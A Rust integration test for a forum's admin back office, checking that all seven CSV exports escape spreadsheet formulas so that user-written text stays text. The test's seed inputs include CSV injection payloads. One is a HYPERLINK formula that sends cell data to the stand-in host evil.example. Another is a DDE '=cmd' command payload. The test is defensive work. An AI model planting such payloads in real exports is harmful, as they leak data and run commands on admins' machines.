//! Exports are safe to open (issue 17 §4): text that members or visitors wrote reaches the
//! admin's spreadsheet as text, never as a formula, in every one of the seven exports.

use reqwest::StatusCode;
use serde_json::json;

use crate::forum::{comment, post};
use crate::helpers::{TestApp, Tokens, ok};
use crate::moderation::{member, report};

crate::on_both_databases!(no_exported_cell_is_a_formula);

/// Every export the back office offers.
const EXPORTS: [&str; 7] = [
    "/api/admin/user/export",
    "/api/admin/topic/export",
    "/api/admin/resource/export",
    "/api/admin/post/export",
    "/api/admin/report/export",
    "/api/admin/audit-log/export",
    "/api/admin/crash-report/export",
];

/// What a spreadsheet would run: `=`, `+`, `-` or `@` first (also after spaces), or a tab or
/// carriage return first.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(['=', '+', '-', '@'])
}

async fn cells(app: &TestApp, admin: &Tokens, path: &str) -> Vec<String> {
    let response = app.get_as(admin, path).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    let text = response.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .flat_map(|record| {
            record
                .unwrap()
                .iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect()
}

async fn no_exported_cell_is_a_formula(app: TestApp) {
    const TITLE: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
    const TEXT: &str = "+1+1";
    const COMMENT: &str = "@SUM(A1:A9)";
    const EXPLANATION: &str = "-2+3";
    const CRASH: &str = "=cmd|' /C calc'!A0";
    let author = member(&app, "author").await;
    let sneaky = app
        .register("=1+1@example.org", crate::forum::PASSWORD)
        .await;
    app.onboard(&sneaky).await;
    let admin = app.admin().await;
    let target = post(&app, &author, json!({ "title": TITLE, "text": TEXT })).await;
    let words = comment(&app, &author, &target, None, COMMENT).await;
    ok(&report(
        &app,
        &sneaky,
        json!({ "commentId": words, "reason": "OTHER", "explanation": EXPLANATION }),
    )
    .await);
    ok(&app
        .graphql_as(
            &admin.access,
            "mutation { saveTopic(input: { title: \"=Topic\", description: \"@here\" }) { id } }",
            json!({}),
        )
        .await);
    ok(&app
        .graphql_as(
            &admin.access,
            "mutation { saveSecondOpinion(input: { title: \"+Opinion\", text: \"-text\" }) { id } }",
            json!({}),
        )
        .await);
    let crash = app
        .graphql(
            "mutation($input: CrashReportInput!) { reportCrash(input: $input) }",
            json!({ "input": { "error": { "name": "=Error", "message": CRASH },
                               "componentName": "@Post", "location": "/-x", "browser": "Firefox 133" } }),
        )
        .await;
    ok(&crash);

    let mut seen = Vec::new();
    for path in EXPORTS {
        for cell in cells(&app, &admin, path).await {
            assert!(!is_formula(&cell), "{path}: {cell:?}");
            seen.push(cell);
        }
    }
    // The text is all there, only quoted: a leading single quote makes it text.
    for written in [
        TITLE,
        TEXT,
        COMMENT,
        CRASH,
        "=1+1@example.org",
        "=Topic",
        "+Opinion",
        "=Error",
    ] {
        assert!(
            seen.iter().any(|cell| *cell == format!("'{written}")),
            "{written:?} in {seen:?}"
        );
    }
}
